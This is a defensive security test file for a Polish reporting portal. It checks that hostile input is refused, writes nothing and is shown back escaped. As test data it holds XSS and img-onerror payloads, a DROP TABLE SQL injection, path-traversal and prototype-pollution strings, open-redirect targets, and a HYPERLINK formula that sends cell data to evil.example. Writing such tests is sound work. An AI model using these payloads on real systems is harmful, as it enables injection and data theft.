import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { and, count, eq, notInArray, sql } from 'drizzle-orm';
import type { LightMyRequestResponse } from 'fastify';
import type { PgTable } from 'drizzle-orm/pg-core';
import { auditLog, formDeadlines, reportEvents, reports, reportVersions, units, unitSurveys, users } from '../../src/db/schema/index.ts';
import { currentReportingYear } from '../../src/domain/reporting/catalogue.ts';
import { cellsOf } from '../../src/domain/reporting/definition.ts';
import { exampleValues } from '../../src/demo/report-examples.ts';
import { warsawDay } from '../../src/lib/warsaw-time.ts';
import { formRegistry } from '../../src/reporting/definitions.ts';
import { buildTestApp, type TestApp } from '../helpers/app.ts';
import { Agent } from '../helpers/agent.ts';
import { loginAs, loginAsDemo } from '../helpers/login.ts';
import { demoReportIds, type DemoReportIds } from '../helpers/route-bodies.ts';

/**
 * Hostile input on every route of the reporting module ("Sprawozdania niefinansowe", the ankieta, one
 * report's pages, a unit's obligations) and of "Terminy sprawozdań", field by field and person by
 * person, deeper than the route-table sweeps of hostile-input.test.ts and csrf-route-table.test.ts:
 *
 * - never a 5xx; a refusal is a 400 (the Polish form with its error summary where there is a form),
 *   403, 404, 409 (a stale page) or a 303 back to a page;
 * - a refused request writes nothing: the reports, their history and versions, the ankiety, the
 *   deadlines and the audit log (other than the `security.refused` entry of a 403) are compared
 *   before and after;
 * - text that is accepted (a verifier's comment, an explanation, a cell's text, a reason, a source)
 *   and text typed into a refused form comes back escaped on every page that shows it: no page ever
 *   holds an element or an event-handler attribute the input smuggled in.
 */

const NUL = '\u0000';
const RLO = '\u202E';
const COMBINING = 'Z\u0301o\u0328\u0301lw'; // NFD-ish letters with stacked combining marks
const EMOJI = 'Przychodnia 🏥👩‍⚕️ 𝔘';
const BIG = 'x'.repeat(100 * 1024);
const XSS = '<script>alert(1)</script>';
const ATTR = '"><img src=x onerror=alert(1)>';
const CSV = '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")';
const SQLI = "'; DROP TABLE portal.reports; -- ' OR '1'='1";
/** The escaped form of XSS as a text node (Kita escapes `<`, `&`, quotes; `>` may stay). */
const XSS_ESCAPED = /&lt;script(&gt;|>)alert\(1\)&lt;\/script(&gt;|>)/;

type Who = Agent;
type Body = { form: Record<string, string | readonly string[]> } | { json: unknown } | { raw: string; type?: string } | { none: true };

interface Tag {
  name: string;
  attrs: string[];
}

/**
 * The start tags of a page, with their attribute names; quoted attribute values are skipped, so a
 * `<script>` typed into a field and shown inside `value="…"` is data, not a tag (what a browser's
 * tokenizer does too).
 */
function tagsOf(html: string): Tag[] {
  const out: Tag[] = [];
  let i = 0;
  const n = html.length;
  while (i < n) {
    if (html[i] !== '<' || !/[A-Za-z]/.test(html[i + 1] ?? '')) {
      i++;
      continue;
    }
    i++;
    let name = '';
    while (i < n && /[A-Za-z0-9-]/.test(html[i]!)) name += html[i++];
    const attrs: string[] = [];
    while (i < n && html[i] !== '>') {
      if (/[\s/]/.test(html[i]!)) {
        i++;
        continue;
      }
      let attr = '';
      while (i < n && !/[\s=>/]/.test(html[i]!)) attr += html[i++];
      if (attr) attrs.push(attr.toLowerCase());
      while (i < n && /\s/.test(html[i]!)) i++;
      if (html[i] === '=') {
        i++;
        while (i < n && /\s/.test(html[i]!)) i++;
        const q = html[i];
        if (q === '"' || q === "'") {
          const end = html.indexOf(q, i + 1);
          i = end === -1 ? n : end + 1;
        } else while (i < n && !/[\s>]/.test(html[i]!)) i++;
      }
    }
    out.push({ name: name.toLowerCase(), attrs });
    // the raw text of a script or style is not markup
    if (name.toLowerCase() === 'script' || name.toLowerCase() === 'style') {
      const end = html.toLowerCase().indexOf(`</${name.toLowerCase()}`, i);
      i = end === -1 ? n : end;
    }
  }
  return out;
}

/** What an injected value would add to a page: an inline script, an element the app never renders here, an event handler. */
function smuggled(html: string): string[] {
  const found: string[] = [];
  for (const t of tagsOf(html)) {
    if (t.name === 'script' && !t.attrs.includes('src')) found.push('<script> without src');
    if (t.name === 'img') found.push('<img>');
    for (const a of t.attrs) if (a.startsWith('on')) found.push(`${t.name}[${a}]`);
  }
  return found;
}

describe('reporting routes under hostile input: no 5xx, refusals write nothing, injected text stays text', () => {
  let t: TestApp;
  let year: number;
  let ip = 0;
  // people
  let robert: Agent; // filler of Przychodnia „Starówka” w Toruniu (ankieta due)
  let zofia: Agent; // the voivodeship office (NADZ_NIEFIN, uw-04): verifies and corrects the clinic
  let jan: Agent; // Administrator CeZ
  let mariaCez: Agent; // Pracownik CeZ: finds reports, opens none
  let mariaStarostwo: Agent; // filler of another unit (Starostwo)
  let noProfile: Agent; // signed in, no profile worked in
  let anonymous: Agent; // no session at all (a CSRF token from a public page)
  // objects
  let reportId = ''; // the clinic's MZ-11 of this year, made by the ankieta below
  let torunUnitId = '';
  let demo: DemoReportIds;
  const tokens = new Map<Agent, string>();
  /** what went wrong, collected over a test so that one run lists every failing case */
  let problems: string[] = [];

  const def = () => formRegistry().forYear('MZ-11', year)!;
  const row = async (id = reportId) => (await t.database.db.select().from(reports).where(eq(reports.id, id)))[0]!;
  const rev = async (id = reportId) => String((await row(id)).revision);

  /** A digest of everything the reporting routes write; the audit log counted without `security.refused` (a 403 writes one). */
  const snapshot = async (): Promise<string> => {
    const db = t.database.db;
    const md5 = async (table: PgTable) => {
      const res = (await db.execute(sql`select md5(coalesce(string_agg(x::text, '|' order by x::text), '')) as h from ${table} x`)) as unknown as {
        rows: { h: string }[];
      };
      return res.rows[0]!.h;
    };
    // security events (a refusal, refused input: ASVS V16.3.2, V16.3.3) are written for refused requests on purpose
    const [audits] = await db
      .select({ n: count() })
      .from(auditLog)
      .where(notInArray(auditLog.action, ['security.refused', 'security.input_refused']));
    return JSON.stringify({
      reports: await md5(reports),
      events: await md5(reportEvents),
      versions: await md5(reportVersions),
      surveys: await md5(unitSurveys),
      deadlines: await md5(formDeadlines),
      audits: audits!.n,
    });
  };

  const demoAgent = async (login: string, unitKey: string): Promise<Agent> => (await loginAsDemo(t, login, unitKey)).agent;

  /**
   * One request as `who` (its cookies; a CSRF token of its own on a POST, so the route itself answers).
   * Every answer is checked here: no 5xx, nothing smuggled into the page.
   */
  async function send(who: Who, method: 'GET' | 'POST', url: string, body: Body = { none: true }, label = ''): Promise<LightMyRequestResponse> {
    const headers: Record<string, string> = { cookie: [...who.cookies].map(([k, v]) => `${k}=${v}`).join('; ') };
    let payload: string | undefined;
    if (method === 'POST') {
      headers['x-csrf-token'] = tokens.get(who)!;
      if ('form' in body) {
        const p = new URLSearchParams();
        for (const [k, v] of Object.entries(body.form)) for (const one of [v].flat()) p.append(k, one);
        payload = p.toString();
        headers['content-type'] = 'application/x-www-form-urlencoded';
      } else if ('json' in body) {
        payload = JSON.stringify(body.json);
        headers['content-type'] = 'application/json';
      } else if ('raw' in body) {
        payload = body.raw;
        if (body.type) headers['content-type'] = body.type;
      }
    }
    const what = `${method} ${url.length > 120 ? `${url.slice(0, 120)}…` : url}${label ? ` [${label}]` : ''}`;
    let res: LightMyRequestResponse;
    try {
      res = await t.app.inject({
        method,
        url,
        headers,
        remoteAddress: `10.77.${Math.floor(++ip / 250) % 250}.${(ip % 250) + 1}`,
        ...(payload !== undefined ? { payload } : {}),
      });
    } catch (err) {
      throw new Error(`${what}: the request itself failed: ${String(err)}`, { cause: err });
    }
    if (res.statusCode >= 500) problems.push(`${what}: ${res.statusCode}`);
    const bad = smuggled(res.body);
    if (bad.length) problems.push(`${what}: the page holds ${[...new Set(bad)].join(', ')}`);
    return res;
  }

  /** A request that must be refused: one of `allowed`, and nothing written. */
  async function refused(who: Who, method: 'GET' | 'POST', url: string, body: Body, allowed: number[], label: string): Promise<LightMyRequestResponse> {
    const before = await snapshot();
    const res = await send(who, method, url, body, label);
    const what = `${method} ${url.length > 120 ? `${url.slice(0, 120)}…` : url} [${label}]`;
    if (!allowed.includes(res.statusCode)) problems.push(`${what}: ${res.statusCode}, expected ${allowed.join('/')}`);
    if ((await snapshot()) !== before) problems.push(`${what}: answered ${res.statusCode} but wrote`);
    return res;
  }

  /** A form refused with its errors: 400, the error summary, "Błąd:" in the title, nothing written. */
  async function formRefused(who: Who, url: string, body: Body, label: string): Promise<LightMyRequestResponse> {
    const res = await refused(who, 'POST', url, body, [400], label);
    if (res.statusCode === 400) {
      if (!res.body.includes('data-qa="error-summary"')) problems.push(`POST ${url} [${label}]: 400 without the error summary`);
      if (!/<title>Błąd: /.test(res.body)) problems.push(`POST ${url} [${label}]: 400 without "Błąd:" in the title`);
    }
    return res;
  }

  /** A GET that must answer one of `allowed` (and, being a GET, write nothing). */
  const getOnly = (who: Who, url: string, allowed: number[], label = '') => refused(who, 'GET', url, { none: true }, allowed, label || 'GET');

  /** A test body whose collected problems fail it, listed together (also when an assertion stopped it first). */
  const collecting = (fn: () => Promise<void>) => async () => {
    problems = [];
    let failure: unknown = null;
    try {
      await fn();
    } catch (err) {
      failure = err;
    }
    const list = problems;
    problems = [];
    if (list.length) assert.fail(`${list.length} problems:\n${list.join('\n')}${failure ? `\nand then: ${String(failure)}` : ''}`);
    if (failure) throw failure;
  };

  before(async () => {
    t = await buildTestApp();
    const db = t.database.db;
    year = currentReportingYear(warsawDay(t.clock.now));
    robert = await demoAgent('robert.szymanski', 'przychodnia-torun');
    zofia = await demoAgent('zofia.nowicka', 'uw-04');
    jan = await demoAgent('jan.kowalski', 'cez');
    mariaCez = await demoAgent('maria.wisniewska', 'cez');
    mariaStarostwo = await demoAgent('maria.wisniewska', 'starostwo-aleksandrow-kujawski');
    noProfile = await loginAs(t, (await db.select({ id: users.id }).from(users).where(eq(users.login, 'maria.wisniewska')))[0]!.id);
    anonymous = new Agent(t);
    for (const a of [robert, zofia, jan, mariaCez, mariaStarostwo, noProfile, anonymous]) tokens.set(a, await a.csrf());
    const [torun] = await db.select({ id: units.id }).from(units).where(eq(units.sourceKey, 'przychodnia-torun'));
    torunUnitId = torun!.id;
    demo = await demoReportIds(db);
    // a list GET may assign the obligations of a kind without an ankieta (once): let that happen before any comparison
    for (const a of [zofia, jan, mariaCez, mariaStarostwo, noProfile]) await a.get('/sprawozdania/niefinansowe');
  });
  after(async () => t?.close());

  it('the page check itself: finds a smuggled script, image or handler, not text in an attribute value or an escaped one', async () => {
    assert.deepEqual(smuggled(`<p>${XSS}</p>`), ['<script> without src']);
    assert.deepEqual(smuggled(`<p>${ATTR}</p>`), ['<img>', 'img[onerror]']);
    assert.deepEqual(smuggled(`<input value="${ATTR}">`), ['<img>', 'img[onerror]'], 'a quote that ends the value lets the rest become markup');
    assert.deepEqual(smuggled(`<input value="&#34;><img src=x onerror=alert(1)>${XSS}">`), [], 'inside a quoted value it is data');
    assert.deepEqual(smuggled('<p>&lt;script>alert(1)&lt;/script></p><div onclick=x></div>'), ['div[onclick]']);
    // the app's own pages hold none of it
    const page = await send(robert, 'GET', '/sprawozdania/ankieta');
    assert.equal(page.statusCode, 200);
    assert.deepEqual(smuggled(page.body), []);
    assert.ok(
      tagsOf(page.body).some((x) => x.name === 'script' && x.attrs.includes('src')),
      'the app’s script is seen (and allowed)',
    );
  });

  it(
    'the ankieta: every hostile answer is refused with the form, other people are sent away, nothing is written',
    collecting(async () => {
      const url = '/sprawozdania/ankieta';
      assert.equal((await send(robert, 'GET', url)).statusCode, 200);
      const answers: [string, string | readonly string[]][] = [
        ['NUL', `T${NUL}`],
        ['NUL alone', NUL],
        ['U+202E', `${RLO}T`],
        ['combining mark', 'T\u0301'],
        ['emoji', '🏥'],
        ['100 KB', BIG],
        ['script', XSS],
        ['attribute breaker', ATTR],
        ['CSV formula', '=1+1'],
        ['SQL', SQLI],
        ['lower case', 't'],
        ['with spaces', ' T '],
        ['repeated', ['T', 'N']],
        ['repeated, same', ['T', 'T']],
      ];
      for (const [label, v] of answers) {
        const res = await formRefused(robert, url, { form: { AMB: v } }, `AMB ${label}`);
        if (res.statusCode === 400 && !res.body.includes('Wybierz odpowiedź „Tak” albo „Nie”')) problems.push(`ankieta [AMB ${label}]: no Polish message`);
      }
      for (const [label, json] of [
        ['number', { AMB: 1 }],
        ['true', { AMB: true }],
        ['array', { AMB: ['T'] }],
        ['object', { AMB: { toString: 'T' } }],
        ['null field', { AMB: null }],
        ['JSON array', ['T']],
        ['JSON string', 'T'],
        ['JSON null', null],
      ] as const)
        await formRefused(robert, url, { json }, `JSON ${label}`);
      await formRefused(robert, url, { raw: '', type: 'application/x-www-form-urlencoded' }, 'empty body');
      await formRefused(robert, url, { none: true }, 'no body');
      // a JSON body with "__proto__" is refused by the body parser itself (400, no form to show)
      await refused(robert, 'POST', url, { raw: '{"__proto__": {"AMB": "T"}}', type: 'application/json' }, [400], 'JSON __proto__');
      await formRefused(robert, url, { form: { [XSS]: 'T', [`AMB${NUL}`]: 'T' } }, 'hostile field names');
      // people who owe no ankieta now: back to the list (303), or refused (403: no session, CSRF)
      for (const [who, name] of [
        [jan, 'Administrator CeZ'],
        [mariaCez, 'Pracownik CeZ'],
        [mariaStarostwo, 'filler of a unit that answered'],
        [noProfile, 'no profile'],
        [zofia, 'the office'],
      ] as const) {
        await refused(who, 'POST', url, { form: { AMB: 'T' } }, [303], name);
        await getOnly(who, url, [303], name);
      }
      await refused(anonymous, 'POST', url, { form: { AMB: 'T' } }, [303, 403], 'anonymous');
      await getOnly(anonymous, url, [303], 'anonymous');
      // the real answer, for the tests below
      const ok = await send(robert, 'POST', url, { form: { AMB: 'T' } });
      assert.equal(ok.statusCode, 303);
      const [mine] = await t.database.db
        .select({ id: reports.id })
        .from(reports)
        .where(and(eq(reports.unitId, torunUnitId), eq(reports.year, year), eq(reports.form, 'MZ-11')));
      reportId = mine!.id;
    }),
  );

  it(
    'the list: every filter with hostile values shows the list (200), echoes typed text escaped, writes nothing',
    collecting(async () => {
      const params = ['status', 'formularz', 'rok', 'jednostka', 'terminowosc', 'sortuj', 'ile', 'strona', 'wynik'];
      const values: [string, string][] = [
        ['NUL', `a${NUL}b`],
        ['U+202E', `${RLO}abc`],
        ['combining', COMBINING],
        ['emoji', EMOJI],
        ['100 KB', BIG],
        ['script', XSS],
        ['attribute breaker', ATTR],
        ['CSV', CSV],
        ['SQL', SQLI],
        ['LIKE wildcards', '%_\\'],
        ['number', '-1'],
        ['huge number', '1e309'],
        ['NaN', 'NaN'],
        ['year 1999', '1999'],
        ['year 2101', '2101'],
        ['__proto__', '__proto__'],
        ['constructor', 'constructor'],
      ];
      for (const p of params) {
        for (const [label, v] of values) await getOnly(jan, `/sprawozdania/niefinansowe?${p}=${encodeURIComponent(v)}`, [200], `${p} ${label}`);
        await getOnly(jan, `/sprawozdania/niefinansowe?${p}=a&${p}=b&${p}[x]=c`, [200], `${p} repeated`);
        await getOnly(jan, `/sprawozdania/niefinansowe?${p}=%ZZ%00`, [200, 400], `${p} broken escape`);
      }
      // what the search box shows again is the typed text, escaped
      const echo = await send(jan, 'GET', `/sprawozdania/niefinansowe?jednostka=${encodeURIComponent(XSS)}`);
      assert.equal(echo.statusCode, 200);
      assert.ok(echo.body.includes(`value="${XSS}"`) || XSS_ESCAPED.test(echo.body), 'the typed search is shown again, as text');
      // every kind of person, and nobody
      for (const [who, allowed, name] of [
        [robert, [200], 'filler'],
        [zofia, [200], 'office'],
        [mariaCez, [200], 'Pracownik CeZ'],
        [mariaStarostwo, [200], 'filler of another unit'],
        [noProfile, [303, 403, 404], 'no profile'],
        [anonymous, [303], 'anonymous'],
      ] as const)
        await getOnly(who, `/sprawozdania/niefinansowe?jednostka=${encodeURIComponent(XSS)}&strona=999999&ile=100`, [...allowed], name);
    }),
  );

  it(
    'one report: foreign, made-up, malformed and upper-case ids, hostile ?wynik, other people',
    collecting(async () => {
      const upper = reportId.toUpperCase();
      for (const [id, allowed, label] of [
        [randomUUID(), [404], 'random uuid'],
        ['abc', [404], 'not a uuid'],
        [`${reportId}%00`, [404], 'NUL after the id'],
        [`${reportId.slice(0, -1)}%E2%80%AE`, [404], 'U+202E in the id'],
        [`${reportId}%2F..%2F`, [404], 'encoded slash'],
        [encodeURIComponent("1' OR '1'='1"), [404], 'SQL'],
        [upper, [200, 404], 'upper-case uuid'],
        [demo.fill, [404], 'another unit’s report'],
        [demo.verify, [404], 'another unit’s report waiting at CeZ'],
      ] as const) {
        for (const suffix of ['', '/wyslij', '/dzial/D0', '/wersje/1', '/roznice?od=1&do=1'])
          await getOnly(robert, `/sprawozdania/${id}${suffix}`, suffix === '' ? [...allowed] : [...allowed, 303], `${label}${suffix}`);
        for (const suffix of ['/dzial/D0', '/wyslij', '/weryfikacja', '/korekta'])
          // a revision no page had: the own report (upper-case id) is refused as stale, before anything is read
          await refused(
            robert,
            'POST',
            `/sprawozdania/${id}${suffix}`,
            { form: { rewizja: '999999999', decyzja: 'zatwierdz', powod: 'x', 'D0.01': 'T' } },
            [303, 403, 404, 409],
            `${label}${suffix}`,
          );
      }
      for (const [label, v] of [
        ['script', XSS],
        ['NUL', NUL],
        ['constructor', 'constructor'],
        ['__proto__', '__proto__'],
        ['toString', 'toString'],
        ['hasOwnProperty', 'hasOwnProperty'],
        ['100 KB', BIG],
      ] as const) {
        const res = await getOnly(robert, `/sprawozdania/${reportId}?wynik=${encodeURIComponent(v)}`, [200], `wynik ${label}`);
        if (res.body.includes('data-qa="report-notice"')) problems.push(`?wynik=${label} shows a notice`);
      }
      for (const [who, allowed, name] of [
        [mariaCez, [403], 'Pracownik CeZ'],
        [mariaStarostwo, [404], 'filler of another unit'],
        [noProfile, [303, 404], 'no profile'],
        [anonymous, [303], 'anonymous'],
      ] as const) {
        for (const suffix of ['', '/wyslij', '/dzial/D0']) await getOnly(who, `/sprawozdania/${reportId}${suffix}`, [...allowed], `${name}${suffix}`);
      }
    }),
  );

  it(
    'a section: path tricks answer 404; hostile cell values are refused with the form or kept as text; the revision is checked',
    collecting(async () => {
      const base = `/sprawozdania/${reportId}/dzial`;
      for (const [section, label] of [
        ['D1%00', 'NUL'],
        ['..%2F', '../'],
        ['..%2F..%2Fwyslij', '../../wyslij'],
        ['D1%2F..', 'D1/..'],
        ['D0%E2%80%AE', 'U+202E'],
        ['D1%20', 'trailing space'],
        ['D1%3Cscript%3E', 'script'],
        ['d1', 'lower case'],
        ['D99', 'unknown'],
        ['constructor', 'constructor'],
        ['__proto__', '__proto__'],
        ['D'.repeat(300), '300 characters'],
        ['D'.repeat(20_000), '20 000 characters'],
      ]) {
        await getOnly(robert, `${base}/${section}`, [404, 414], `section ${label}`);
        await refused(robert, 'POST', `${base}/${section}`, { form: { rewizja: await rev(), 'D0.02': '1' } }, [404, 414], `section ${label}`);
      }

      const d0 = (patch: Record<string, string | readonly string[]>, revision: string) => ({
        form: { rewizja: revision, po: 'zostan', 'D0.01': 'T', 'D0.02': '250', 'D0.03': '', ...patch },
      });
      // values that do not fit their cell: the section again with the messages, typed values kept (as text)
      const refusedValues: [string, Record<string, string | readonly string[]>][] = [
        ['D0.03 NUL', { 'D0.03': `Uwaga${NUL}` }],
        ['D0.03 100 KB', { 'D0.03': BIG }],
        ['D0.03 501 characters', { 'D0.03': 'ą'.repeat(501) }],
        ['D0.02 exponent', { 'D0.02': '1e3' }],
        ['D0.02 hex', { 'D0.02': '0x10' }],
        ['D0.02 full-width digits', { 'D0.02': '１２' }],
        ['D0.02 negative', { 'D0.02': '-1' }],
        ['D0.02 20 digits', { 'D0.02': '99999999999999999999' }],
        ['D0.02 NaN', { 'D0.02': 'NaN' }],
        ['D0.02 Infinity', { 'D0.02': 'Infinity' }],
        ['D0.02 decimal', { 'D0.02': '12,5' }],
        ['D0.02 script', { 'D0.02': XSS }],
        ['D0.02 attribute breaker', { 'D0.02': ATTR }],
        ['D0.02 NUL', { 'D0.02': `1${NUL}` }],
        ['D0.02 SQL', { 'D0.02': SQLI }],
        ['D0.01 unknown choice', { 'D0.01': 'X' }],
        ['D0.01 script', { 'D0.01': XSS }],
        ['D0.02 U+202E', { 'D0.02': `${RLO}12` }],
        ['D0.03 U+202E', { 'D0.03': `abc${RLO}fed` }],
        ['D0.03 U+2066 isolate', { 'D0.03': `abc\u2066fed\u2069` }],
        ['D0.03 C1 control', { 'D0.03': 'abc\u0085def' }],
      ];
      for (const [label, patch] of refusedValues) {
        const res = await formRefused(robert, `${base}/D0`, d0(patch, await rev()), label);
        if (label === 'D0.02 script' && res.statusCode === 400 && !res.body.includes(XSS.replace(/"/g, '&#34;')) && !XSS_ESCAPED.test(res.body))
          problems.push(`${label}: the typed value is not shown again`);
      }

      // the revision: a page rendered before the last save (another window) is refused (409), a missing or
      // garbled revision too (400); nothing written
      const stale = await rev();
      assert.equal((await send(robert, 'POST', `${base}/D0`, d0({}, stale), 'save from the other window')).statusCode, 303);
      await refused(robert, 'POST', `${base}/D0`, d0({ 'D0.02': '1' }, stale), [409], 'stale rewizja');
      await refused(robert, 'POST', `${base}/D0`, d0({}, '999999999'), [409], 'future rewizja');
      for (const [label, r] of [
        ['empty rewizja', ''],
        ['garbage rewizja', 'abc'],
        ['negative rewizja', '-1'],
        ['exponent rewizja', '1e3'],
        ['rewizja with spaces', ` ${'0'} `],
        ['rewizja with NUL', `0${NUL}`],
        ['10-digit rewizja', '9999999999'],
      ] as const) {
        await refused(robert, 'POST', `${base}/D0`, d0({}, r), [400, 409], label);
      }
      await refused(robert, 'POST', `${base}/D0`, { form: { po: 'zostan', 'D0.01': 'T', 'D0.02': '250' } }, [400], 'no rewizja');
      await refused(robert, 'POST', `${base}/D0`, d0({ rewizja: [await rev(), await rev()] }, ''), [400], 'rewizja repeated');
      await refused(robert, 'POST', `${base}/D0`, { json: { rewizja: Number(await rev()), 'D0.01': 'T', 'D0.02': '250' } }, [400], 'rewizja as a JSON number');
      // bodies that are no form: nothing is read as "every cell of the section emptied"
      await refused(robert, 'POST', `${base}/D0`, { raw: '', type: 'application/x-www-form-urlencoded' }, [400], 'empty body');
      await refused(robert, 'POST', `${base}/D0`, { none: true }, [400], 'no body');
      await refused(robert, 'POST', `${base}/D0`, { json: null }, [400], 'JSON null');
      await refused(robert, 'POST', `${base}/D0`, { json: [await rev()] }, [400], 'JSON array');
      // a JSON number or object in a cell is no text: read as an empty cell (like an unticked radio group)
      const typedJson = await send(
        robert,
        'POST',
        `${base}/D0`,
        { json: { rewizja: await rev(), 'D0.01': ['T'], 'D0.02': 250, 'D0.03': { a: 1 } } },
        'JSON cells',
      );
      if (![303, 400].includes(typedJson.statusCode)) problems.push(`JSON cells: ${typedJson.statusCode}`);
      // a body that names none of the section's cells (the revision and junk only) empties none of them
      assert.equal((await send(robert, 'POST', `${base}/D0`, d0({}, await rev()), 'D0 filled')).statusCode, 303);
      const filled = (await row()).values;
      assert.equal(filled['D0.02'], '250');
      const partial = await send(
        robert,
        'POST',
        `${base}/D0`,
        { form: { rewizja: await rev(), po: 'zostan', 'explain-__proto__': 'x', 'D9.99': '1' } },
        'no cells',
      );
      if (partial.statusCode !== 303) problems.push(`no cells: ${partial.statusCode}, expected 303`);
      const kept = (await row()).values;
      for (const code of ['D0.01', 'D0.02', 'D0.03']) if (kept[code] !== filled[code]) problems.push(`no cells: ${code} ${filled[code]} → ${kept[code]}`);

      // an encoded "..": URL parsing resolves it before routing (as a browser does), to the report page itself
      const dots = await getOnly(robert, `${base}/%2E%2E`, [200, 404], 'section %2E%2E');
      if (dots.statusCode === 200 && !dots.body.includes('data-qa="page-report"')) problems.push('%2E%2E: a page other than the report');

      // other people: Pracownik CeZ may not, another unit's filler does not find it, nobody is sent to sign in
      for (const [who, allowed, name] of [
        [mariaCez, [403], 'Pracownik CeZ'],
        [mariaStarostwo, [404], 'filler of another unit'],
        [noProfile, [303, 404], 'no profile'],
        [anonymous, [303, 403], 'anonymous'],
      ] as const)
        await refused(who, 'POST', `${base}/D0`, d0({}, await rev()), [...allowed], name);

      // text a text cell takes as it is, shown back escaped on the section, the report and the submit page
      for (const [label, text] of [
        ['script', XSS],
        ['attribute breaker', ATTR],
        ['CSV formula', CSV],
        ['SQL', SQLI],
        ['emoji', EMOJI],
        ['combining marks', COMBINING],
      ] as const) {
        const res = await send(robert, 'POST', `${base}/D0`, d0({ 'D0.03': text }, await rev()), `D0.03 ${label}`);
        if (res.statusCode !== 303) problems.push(`D0.03 ${label}: ${res.statusCode}, expected 303`);
        const stored = (await row()).values['D0.03'];
        if (stored !== text && stored !== text.normalize('NFC')) problems.push(`D0.03 ${label}: stored ${JSON.stringify(stored?.slice(0, 60))}`);
        for (const page of [`${base}/D0`, `/sprawozdania/${reportId}`, `/sprawozdania/${reportId}/wyslij`])
          await getOnly(robert, page, [200], `shows D0.03 ${label}`);
      }
      // a repeated cell takes its first value (a browser never sends one twice)
      await send(robert, 'POST', `${base}/D0`, d0({ 'D0.01': ['T', 'N'] }, await rev()), 'D0.01 repeated');
      // "po": only the known next steps; anything else stays on the section (never leaves the report)
      for (const po of ['http://evil.example/', '//evil.example', '/../../wyloguj', XSS, 'dalej', 'sprawdz']) {
        const res = await send(robert, 'POST', `${base}/D0`, d0({ po, 'D0.03': XSS }, await rev()), `po ${po}`);
        const to = String(res.headers.location ?? '');
        if (res.statusCode !== 303 || !to.startsWith(`/sprawozdania/${reportId}/`)) problems.push(`po=${po}: ${res.statusCode} → ${to}`);
      }
    }),
  );

  it(
    'sending: hostile explanations are refused with the form, the one that passes reaches the verifier escaped',
    collecting(async () => {
      // fill the report so that one warning (and no error) is left: last year's values, four times the visits
      const small = exampleValues('MZ-11', 1);
      const big = exampleValues('MZ-11', 4);
      for (const s of def().sections) {
        const values = s.code === 'D1' ? big : small;
        const form: Record<string, string> = { rewizja: await rev(), po: 'zostan' };
        for (const c of cellsOf(def())) if (c.sectionCode === s.code && !c.na) form[c.code] = values[c.code] ?? '';
        if (s.code === 'D0') form['D0.03'] = XSS;
        assert.equal((await send(robert, 'POST', `/sprawozdania/${reportId}/dzial/${s.code}`, { form })).statusCode, 303, `section ${s.code}`);
      }
      const page = await send(robert, 'GET', `/sprawozdania/${reportId}/wyslij`);
      assert.equal(page.statusCode, 200);
      const names = [...page.body.matchAll(/name="(explain-[A-Za-z0-9]+)"/g)].map((m) => m[1]!);
      assert.ok(names.length >= 1, 'a warning to explain');
      const url = `/sprawozdania/${reportId}/wyslij`;
      const all = (v: string | readonly string[], revision: string) => ({ form: { rewizja: revision, ...Object.fromEntries(names.map((n) => [n, v])) } });

      for (const [label, v] of [
        ['NUL', `Wyjaśnienie${NUL}`],
        ['100 KB', BIG],
        ['1001 characters', 'ż'.repeat(1001)],
        ['empty', ''],
        ['only spaces', '   \n\t '],
        ['repeated', ['Raz', 'Dwa']],
        ['U+202E', `Wyjaśnienie ${RLO}enilpicsid`],
        ['C1 control', 'Wyjaśnienie\u009b'],
      ] as const) {
        const res = await formRefused(robert, url, all(v, await rev()), `explanation ${label}`);
        if (res.statusCode === 400 && !res.body.includes('data-qa="page-report-submit"')) problems.push(`explanation ${label}: not the submit page`);
      }
      for (const [label, json] of [
        ['number', Object.fromEntries(names.map((n) => [n, 1]))],
        ['array', Object.fromEntries(names.map((n) => [n, ['a']]))],
        ['JSON null', null],
        ['JSON array', [XSS]],
      ] as const)
        await refused(robert, 'POST', url, { json: json && !Array.isArray(json) ? { rewizja: await rev(), ...json } : json }, [400], `explanation ${label}`);
      // typed text of a refused form comes back as text
      const typed = await formRefused(robert, url, { form: { rewizja: await rev(), [names[0]!]: `${XSS}${NUL}` } }, 'explanation script + NUL');
      if (typed.statusCode === 400 && !XSS_ESCAPED.test(typed.body)) problems.push('the refused explanation is not shown again escaped');
      // the revision
      const good = `${XSS} ${CSV} ${EMOJI} ${COMBINING}`;
      await refused(robert, 'POST', url, all(good, String(Number(await rev()) - 1)), [409], 'stale rewizja');
      await refused(robert, 'POST', url, { form: Object.fromEntries(names.map((n) => [n, good])) }, [400], 'no rewizja');
      await refused(robert, 'POST', url, all(good, 'x'), [400], 'garbage rewizja');
      // other people
      for (const [who, allowed, name] of [
        [mariaCez, [403], 'Pracownik CeZ'],
        [mariaStarostwo, [404], 'filler of another unit'],
        [noProfile, [303, 404], 'no profile'],
        [anonymous, [303, 403], 'anonymous'],
      ] as const) {
        await refused(who, 'POST', url, all(good, await rev()), [...allowed], name);
        await getOnly(who, url, who === anonymous ? [303] : [...allowed], name);
      }
      // sent: the verifier reads the explanation and the cell's text as text
      const sent = await send(robert, 'POST', url, all(good, await rev()));
      assert.equal(sent.statusCode, 303, sent.body.slice(0, 500));
      assert.equal((await row()).status, 'do_weryfikacji');
      assert.deepEqual(
        Object.values((await row()).explanations),
        names.map(() => good),
        'kept as typed (astral characters, combining marks)',
      );
      const view = await send(zofia, 'GET', `/sprawozdania/${reportId}`);
      assert.equal(view.statusCode, 200);
      assert.match(view.body, /data-qa="explanations"[\s\S]*?&lt;script(&gt;|>)alert\(1\)/, 'the explanation, escaped');
      assert.ok(XSS_ESCAPED.test(view.body));
      // sending twice: the report is no longer being filled
      await refused(robert, 'POST', url, all(good, await rev()), [303, 403, 409], 'sent again');
    }),
  );

  it(
    'verification: hostile decisions and comments are refused with the form; the comments that pass are shown escaped to the filler and in the history',
    collecting(async () => {
      const url = `/sprawozdania/${reportId}/weryfikacja`;
      const body = (patch: Record<string, string | readonly string[]>, revision: string) => ({
        form: { rewizja: revision, decyzja: 'zwroc', uwaga: 'Proszę sprawdzić.', komorka1: '', tresc1: '', ...patch },
      });
      const cases: [string, Record<string, string | readonly string[]>][] = [
        ['no decision', { decyzja: '' }],
        ['unknown decision', { decyzja: 'ZATWIERDZ' }],
        ['decision script', { decyzja: XSS }],
        ['decision repeated', { decyzja: ['zatwierdz', 'zwroc'] }],
        ['decision NUL', { decyzja: `zwroc${NUL}` }],
        ['return without comment', { uwaga: '  ' }],
